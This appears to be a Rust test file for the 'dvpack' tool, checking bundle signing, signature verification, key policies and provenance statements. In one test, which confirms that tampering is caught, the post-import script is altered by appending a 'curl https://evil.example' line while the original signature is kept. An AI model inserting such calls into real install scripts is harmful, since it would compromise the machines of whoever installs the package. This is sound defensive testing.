//! `dvpack sign` and what `verify` and `apply` make of signatures.

mod damage;
mod foreign;
mod keys;
mod records;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use dvpack::archive::{self, Entry, Limits};
use dvpack::bundle::Bundle;
use dvpack::bundle::signature::{PublicKey, SigningKey, Trust, sign, verify_policy};
use dvpack::secret::Secret;
use tempfile::TempDir;

use crate::support::{Test, dvpack, set_mode};

/// Keys, the example's bundle, and the bundle signed with each key.
struct Bench {
    folder: TempDir,
}

const KEYS: [(&str, &[&str]); 3] = [
    ("p256", &["genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256"]),
    ("ed25519", &["genpkey", "-algorithm", "ED25519"]),
    ("other", &["genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256"]),
];

impl Bench {
    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.path(name)).unwrap_or_else(|error| panic!("{name}: {error}"))
    }

    /// A test with a bundle and all public keys.
    fn test(&self, bundle: &[u8]) -> Test {
        KEYS.iter().fold(Test::new().file("it.dvpack", bundle), |test, (name, _)| {
            let file = format!("{name}.pub");
            let bytes = self.read(&file);
            test.file(&file, bytes)
        })
    }

    fn digest(&self, name: &str) -> String {
        PublicKey::read(&self.path(&format!("{name}.pub"))).expect("a key").digest()
    }
}

fn openssl(folder: &Path, arguments: &[&str]) {
    let output = Command::new("openssl").current_dir(folder).args(arguments).output().expect("openssl");
    assert!(output.status.success(), "openssl {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
}

fn bench() -> &'static Bench {
    static BENCH: OnceLock<Bench> = OnceLock::new();
    BENCH.get_or_init(|| {
        let bench = Bench { folder: tempfile::tempdir().expect("a folder") };
        let folder = bench.folder.path();
        for (name, arguments) in KEYS {
            let (private, public) = (format!("{name}.pem"), format!("{name}.pub"));
            openssl(folder, &[arguments, &["-out", &private]].concat());
            openssl(folder, &["pkey", "-in", &private, "-pubout", "-out", &public]);
        }
        let built = Test::new().copy("examples/contoso-widgets").args("build . -o out").success();
        let name = std::fs::read_dir(built.folder.path().join("out"))
            .expect("a folder")
            .filter_map(|entry| entry.expect("an entry").file_name().into_string().ok())
            .find(|name| name.ends_with(".dvpack"))
            .expect("a bundle");
        std::fs::write(bench.path("it.dvpack"), built.read(&format!("out/{name}"))).expect("written");
        for key in ["p256", "ed25519"] {
            let output = dvpack(folder)
                .args(["sign", "it.dvpack", "--key", &format!("{key}.pem"), "-o", &format!("{key}.dvpack")])
                .output()
                .expect("run");
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        }
        bench
    })
}

/// A small generator of numbers, the same on every run.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).expect("31 bits") % limit
    }
}

#[test]
fn a_signed_bundle_is_told_by_its_key() {
    let bench = bench();
    for key in ["p256", "ed25519"] {
        let ran = bench
            .test(&bench.read(&format!("{key}.dvpack")))
            .args(&format!("verify it.dvpack --key {key}.pub"))
            .success();
        assert!(ran.stdout.contains("signed by a trusted key, sha256:"), "{}", ran.stdout);
        assert!(ran.stdout.contains("built by urn:dvpack:builder:local\n"), "{}", ran.stdout);
    }
    let ran = bench.test(&bench.read("p256.dvpack")).args("verify it.dvpack").success();
    assert!(ran.stdout.contains("by a key that is not trusted here"), "{}", ran.stdout);
}

/// The words for what a subscriber can meet; keys differ from run to run, and a script's length from change to change.
fn words(ran: &crate::support::Ran) -> String {
    let mut out = String::new();
    for word in ran.stderr.split_inclusive([' ', '\n', '`']) {
        let digest = word.trim_end().strip_prefix("sha256:").is_some_and(|rest| rest.len() == 64);
        out.push_str(match word {
            _ if digest => "sha256:KEY\n",
            _ if word.starts_with("signatures/") => "signatures/KEY.sigstore.json`",
            _ if out.ends_with("line ") && word.trim_end().parse::<u32>().is_ok() => "NUMBER ",
            _ => word,
        });
    }
    out
}

#[test]
fn unsigned_other_key_changed_and_truncated_are_told_apart() {
    let bench = bench();
    let signed = bench.read("p256.dvpack");
    let verify =
        |bytes: &[u8], key: &str| words(&bench.test(bytes).args(&format!("verify it.dvpack --key {key}.pub")).code(3));
    insta::assert_snapshot!(verify(&bench.read("it.dvpack"), "p256"), @r"
    error: the bundle is not signed
     help: ask the publisher for a signed bundle
    ");
    insta::assert_snapshot!(verify(&signed, "other"), @r"
    error: the bundle is signed by another key: sha256:KEY
     help: do not use it until the publisher confirms the new key by another way
    ");
    insta::assert_snapshot!(verify(&signed[..signed.len() / 2], "p256"));
    // A file of the bundle, its record and its checksum made anew, the signature kept.
    let mut entries = archive::read(&signed, &Limits::default()).expect("read");
    let tail: Vec<_> = entries.extract_if(.., |entry| entry.name.starts_with("signatures/")).collect();
    let script = entries.iter_mut().find(|entry| entry.name == "post-import/apply.sh").expect("there");
    script.bytes.extend(b"\ncurl https://evil.example\n");
    let digest = dvpack::bundle::sha256(&script.bytes);
    let sums = entries.iter_mut().find(|entry| entry.name == "SHA256SUMS").expect("there");
    let lines = String::from_utf8(sums.bytes.clone()).expect("UTF-8");
    let fixed = lines.lines().map(|line| match line.split_once("  ") {
        Some((_, "post-import/apply.sh")) => format!("{digest}  post-import/apply.sh\n"),
        _ => format!("{line}\n"),
    });
    sums.bytes = fixed.collect::<String>().into_bytes();
    let changed = archive::append(&archive::write(&entries).expect("written"), &tail).expect("appended");
    insta::assert_snapshot!(verify(&changed, "p256"));
    // A bit that fell over on the way; which check finds it depends on the compressor.
    let mut flipped = signed.clone();
    let at = flipped.windows(8).position(|window| window == b"apply.sh").expect("there") + 60;
    flipped[at] ^= 4;
    let flipped = verify(&flipped, "p256");
    assert!(flipped.starts_with("error[bundle-refused]: entry `post-import/apply.sh`: the co"), "{flipped}");
    let ran = bench.test(&signed).args("verify it.dvpack --require-signature").code(2);
    insta::assert_snapshot!(ran.stderr);
}

#[test]
fn a_signature_moved_to_another_bundle_does_not_hold() {
    let bench = bench();
    let mut entries = archive::read(&bench.read("p256.dvpack"), &Limits::default()).expect("read");
    let tail: Vec<_> = entries.extract_if(.., |entry| entry.name.starts_with("signatures/")).collect();
    let other = archive::write_at(&entries, archive::Timestamp::from_unix(1_700_000_000)).expect("written");
    let moved = archive::append(&other, &tail).expect("appended");
    let ran = bench.test(&moved).args("verify it.dvpack").code(3);
    assert!(ran.stderr.contains("is not valid: it is about another bundle"), "{}", ran.stderr);
}

#[test]
fn a_policy_says_what_a_key_may_sign() {
    let bench = bench();
    let signed = bench.read("p256.dvpack");
    let policy = |more: &str| {
        format!(
            "dvpackPolicy: 1\nkeys:\n  - name: release\n    sha256: {}\n    solutions: [ContosoWidgets]\n    publisherPrefixes: [contoso]\n{more}",
            bench.digest("p256")
        )
    };
    let verify = |policy: String, code: i32| {
        bench.test(&signed).file("policy.yaml", policy).args("verify it.dvpack --policy policy.yaml").code(code)
    };
    verify(policy(""), 0);
    verify(policy("    minimumVersion: 1.0.0.0\n    builder: urn:dvpack:*\n"), 0);
    for (policy, words) in [
        (policy("    minimumVersion: 99.0.0.0\n"), "is older than 99.0.0.0"),
        (policy("    repository: https://github.com/contoso/widgets\n"), "it names no repository"),
        (policy("    builder: https://github.com/*\n"), "its builder is `urn:dvpack:builder:local`"),
        (policy("").replace("[ContosoWidgets]", "[Other]"), "may not sign the solution `ContosoWidgets`"),
        (policy("").replace("[contoso]", "[fabrikam]"), "may not sign for the prefix `contoso`"),
    ] {
        let ran = verify(policy, 6);
        assert!(ran.stderr.contains(words), "{words}: {}", ran.stderr);
    }
    let ran = verify(policy("").replace(&bench.digest("p256"), &bench.digest("other")), 3);
    assert!(ran.stderr.contains("signed by another key"), "{}", ran.stderr);
    let ran = verify(policy("    repositry: https://github.com/contoso/widgets\n").replace("[contoso]", "[]"), 2);
    insta::assert_snapshot!(ran.stderr.replace(&bench.digest("p256"), "DIGEST"));
}

#[test]
fn a_policy_is_read_strictly_and_all_mistakes_are_told() {
    let bench = bench();
    let verify = |policy: &str| {
        bench
            .test(&bench.read("p256.dvpack"))
            .file("policy.yaml", policy)
            .args("verify it.dvpack --policy policy.yaml")
            .code(2)
            .stderr
    };
    insta::assert_snapshot!(verify(
        "dvpackPolicy: 2\nkeys:\n  - sha256: 12ab\n    solutions: ContosoWidgets\nidentities:\n  - identity: me@contoso.example\n    solutions: [A]\n    publisherPrefixes: [contoso]\n"
    ));
    insta::assert_snapshot!(verify("dvpackPolicy: 1\nkeys: []\n"));
    let merged = verify("dvpackPolicy: 1\nbase: &b {name: x}\nkeys:\n  - <<: *b\n");
    assert!(merged.contains("merge keys"), "{merged}");
}

#[test]
fn a_pipeline_and_the_source_are_stated() {
    let bench = bench();
    let test = Test::new()
        .copy("examples/contoso-widgets")
        .file("it.dvpack", bench.read("it.dvpack"))
        .file("key.pem", bench.read("p256.pem"))
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_REPOSITORY", "contoso/widgets")
        .env("GITHUB_WORKFLOW_REF", "contoso/widgets/.github/workflows/release.yml@refs/tags/v1")
        .env("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567")
        .env("GITHUB_REF", "refs/tags/v1");
    let ran = test.args("sign it.dvpack --key key.pem --source . --format json").success();
    let statement = &ran.json()["statement"];
    let definition = &statement["predicate"]["buildDefinition"];
    assert_eq!(definition["externalParameters"]["repository"], "https://github.com/contoso/widgets");
    assert_eq!(definition["internalParameters"]["sourceVerified"], true);
    assert_eq!(definition["resolvedDependencies"][0]["uri"], "git+https://github.com/contoso/widgets@refs/tags/v1");
    let manifest = dvpack::bundle::sha256(&ran.read("dvpack.yaml"));
    assert_eq!(definition["externalParameters"]["manifest"]["digest"]["sha256"], manifest.as_str());
    assert!(definition["resolvedDependencies"].as_array().expect("a list").len() > 2);
    let subjects = statement["subject"].as_array().expect("a list");
    assert_eq!(subjects[0]["digest"]["sha256"], dvpack::bundle::sha256(&bench.read("it.dvpack")).as_str());
}

/// The last gate before an environment says who signed, and whether anybody here vouches for that.
#[test]
fn a_plan_says_who_signed_or_that_nobody_did() {
    let bench = bench();
    let key = format!("sha256:{}", bench.digest("p256"));
    let signed = bench.test(&bench.read("it.dvpack")).file("key.pem", bench.read("p256.pem"));
    let signed = signed.args("sign it.dvpack --key key.pem").success().read("it.dvpack");
    for (bundle, flags, words) in [
        (bench.read("it.dvpack"), "", "not signed".to_owned()),
        (signed.clone(), "", format!("signed by a key that is not trusted here: {key}")),
        (signed, "--key p256.pub", format!("signed by a trusted key: {key}")),
    ] {
        let ran = bench.test(&bundle).args(&format!("plan it.dvpack --sandbox {flags}")).code(10);
        assert_eq!(ran.stdout.lines().nth(1), Some(format!("  {words}").as_str()), "{}", ran.stdout);
        let ran = bench.test(&bundle).args(&format!("plan it.dvpack --sandbox --format json {flags}")).code(10);
        let signatures = &ran.json()["plan"]["signatures"];
        if words == "not signed" {
            assert_eq!(*signatures, serde_json::json!([]));
        } else {
            let trusted = !flags.is_empty();
            assert_eq!(*signatures, serde_json::json!([{"key": bench.digest("p256"), "trusted": trusted}]));
        }
    }
}

#[test]
fn a_bundle_that_the_source_does_not_give_is_not_signed() {
    let bench = bench();
    let manifest = std::fs::read_to_string(crate::support::repository().join("examples/contoso-widgets/dvpack.yaml"))
        .expect("a manifest");
    let ran = Test::new()
        .copy("examples/contoso-widgets")
        .file("dvpack.yaml", manifest.replacen("read: organization", "read: user", 1))
        .file("it.dvpack", bench.read("it.dvpack"))
        .file("key.pem", bench.read("p256.pem"))
        .args("sign it.dvpack --key key.pem --source .")
        .code(3);
    assert!(ran.stderr.contains("the source gives other files: `bundle.json`"), "{}", ran.stderr);
}

#[cfg(unix)]
#[test]
fn a_signed_bundle_keeps_the_mode_of_the_file_that_it_replaces() {
    use std::os::unix::fs::PermissionsExt as _;
    let bench = bench();
    let mode_of = |path: &Path| std::fs::metadata(path).expect("there").permissions().mode() & 0o7777;
    for mode in [0o600, 0o640, 0o644, 0o660, 0o664, 0o444] {
        for output in ["it.dvpack", "other.dvpack"] {
            let unsigned = bench.read("it.dvpack");
            let test = bench.test(&unsigned).file("key.pem", bench.read("p256.pem")).file("other.dvpack", &unsigned);
            set_mode(&test.path().join(output), mode);
            let ran = test.args(&format!("sign it.dvpack --key key.pem -o {output}")).success();
            assert_eq!(mode_of(&ran.folder.path().join(output)), mode, "{output} {mode:o}");
        }
    }
}

#[test]
fn signing_replaces_bundles_only() {
    let bench = bench();
    let test =
        || bench.test(&bench.read("it.dvpack")).file("key.pem", bench.read("ed25519.pem")).file("notes.txt", "mine");
    let ran = test().args("sign it.dvpack --key key.pem -o notes.txt").code(1);
    insta::assert_snapshot!(ran.stderr, @r"
    error: `notes.txt` already exists and is not a bundle
     help: move it away, choose another file with `--output`, or replace it with `--force`
    ");
    assert_eq!(ran.read("notes.txt"), b"mine");
    test().args("sign it.dvpack --key key.pem -o notes.txt --force").success();
    test()
        .file("other.dvpack", bench.read("p256.dvpack"))
        .args("sign it.dvpack --key key.pem -o other.dvpack")
        .success();
    let ran = test().args("plan it.dvpack --sandbox -o notes.txt").code(1);
    assert!(ran.stderr.contains("`notes.txt` already exists and is not a plan"), "{}", ran.stderr);
    let ran = test().args("plan it.dvpack --sandbox --log-file notes.txt").code(1);
    assert!(ran.stderr.contains("`notes.txt` already exists and is not a request log"), "{}", ran.stderr);
    assert_eq!(ran.read("notes.txt"), b"mine");
}

#[test]
fn two_keys_can_sign_and_signing_again_replaces() {
    let bench = bench();
    let once = bench.read("p256.dvpack");
    let test = bench.test(&once).file("ed25519.pem", bench.read("ed25519.pem"));
    let twice = test.args("sign it.dvpack --key ed25519.pem").success().read("it.dvpack");
    for key in ["p256", "ed25519"] {
        bench.test(&twice).args(&format!("verify it.dvpack --key {key}.pub")).success();
    }
    let again = bench.test(&twice).file("p256.pem", bench.read("p256.pem"));
    let again = again.args("sign it.dvpack --key p256.pem").success().read("it.dvpack");
    assert_eq!(archive::read(&again, &Limits::default()).expect("read").len(), 8 + 4);
}

#[test]
fn apply_looks_at_the_signature_before_it_signs_in() {
    let bench = bench();
    let ran = bench.test(&bench.read("it.dvpack")).args("apply it.dvpack --sandbox --yes --key p256.pub").code(3);
    assert!(ran.stderr.contains("the bundle is not signed"), "{}", ran.stderr);
    let ran = bench.test(&bench.read("p256.dvpack")).args("plan it.dvpack --sandbox --key p256.pub").code(10);
    assert!(!ran.stderr.contains("signed"), "{}", ran.stderr);
}
